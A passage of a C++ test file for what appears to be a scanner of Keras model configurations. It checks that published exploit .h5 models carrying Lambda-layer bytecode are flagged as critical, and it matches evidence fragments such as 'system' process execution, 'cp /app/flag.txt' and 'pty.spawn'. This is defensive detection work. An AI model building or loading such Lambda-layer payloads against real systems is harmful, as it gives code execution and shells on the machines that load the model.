  EXPECT_TRUE(evidence_has(*f, "CPython 3.4-3.7")) << describe(findings);
  EXPECT_EQ(findings.size(), 1u) << describe(findings);
}

TEST(KerasConfigCorpus, PublishedExploitsAreCritical) {
  REQUIRE_GENERATED_CORPUS();
  auto copy = scan_file("corpus/malicious/dvir145__tensorflow-exploit__exploit.h5.model_config.json",
                        Container::legacy_h5);
  const Finding* f = only(copy, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "'system' (process execution)"));
  EXPECT_TRUE(evidence_has(*f, "cp /app/flag.txt")) << describe(copy);

  auto shell =
      scan_file("corpus/malicious/s0x6fup__testrepo__exploit.h5.model_config.json", Container::legacy_h5);
  f = only(shell, "KERAS-LAMBDA-BYTECODE");
  ASSERT_NE(f, nullptr);
  EXPECT_EQ(f->severity, Severity::critical);
  EXPECT_TRUE(evidence_has(*f, "pty.spawn")) << describe(shell);
  for (const char* training :
       {"corpus/malicious/dvir145__tensorflow-exploit__exploit.h5.training_config.json",
        "corpus/malicious/s0x6fup__testrepo__exploit.h5.training_config.json"}) {
    auto findings = scan_file(training, Container::legacy_h5);
    EXPECT_TRUE(findings.empty()) << training << describe(findings);
  }
}

}  // namespace
